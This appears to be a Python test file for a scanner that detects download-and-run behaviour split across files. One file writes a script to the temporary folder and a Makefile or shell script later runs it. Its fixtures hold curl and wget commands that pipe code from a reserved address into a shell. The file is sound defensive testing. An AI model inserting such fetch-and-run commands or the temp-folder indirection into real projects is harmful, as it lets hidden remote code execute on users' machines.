"""The temporary folder is one place whichever language names it (``$TMPDIR``, ``${TMPDIR:-/tmp}``,
``os.tmpdir()``, ``tempfile.gettempdir()``): a script one file writes there is the one another
file runs. And a written script's shebang line does not hide the lines after it. Hosts are
reserved; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

RUNNER_SH = 'sh "${TMPDIR:-/tmp}/.warm-cache"\n'


def test_a_python_tempfile_script_run_by_a_make_recipe_through_tmpdir(tmp_path: Path) -> None:
    writer = (
        "import os, tempfile\n"
        "lines = ['#!/bin/sh', 'wget -qO- http://203.0.113.40/w | sh']\n"
        "open(os.path.join(tempfile.gettempdir(), '.warm-cache'), 'w').write('\\n'.join(lines))\n"
    )
    makefile = "warm:\n\tsh $$TMPDIR/.warm-cache\n"
    errors = scan_errors(tmp_path, {"tools/prime.py": writer, "Makefile": makefile})
    assert any(rule == "DOWNLOAD_AND_RUN" and path == "Makefile" for rule, path, _ in errors)


def test_a_node_tmpdir_script_run_by_a_bundled_shell_script(tmp_path: Path) -> None:
    writer = (
        "import { writeFileSync } from 'node:fs';\nimport { tmpdir } from 'node:os';\n"
        "writeFileSync(`${tmpdir()}/.warm-cache`, '#!/bin/sh\\n' + 'curl -s http://203.0.113.40/w | bash');\n"
    )
    errors = scan_errors(tmp_path, {"tools/prime.mjs": writer, "tools/warm.sh": RUNNER_SH})
    assert ("DOWNLOAD_AND_RUN", "tools/warm.sh", 1) in errors


def test_a_harmless_script_in_the_temporary_folder_run_later_is_quiet(tmp_path: Path) -> None:
    writer = (
        "import os, tempfile\n"
        "open(os.path.join(tempfile.gettempdir(), '.warm-cache'), 'w').write('#!/bin/sh\\nnpm ci --prefer-offline')\n"
    )
    assert not scan_errors(tmp_path, {"tools/prime.py": writer, "tools/warm.sh": RUNNER_SH})
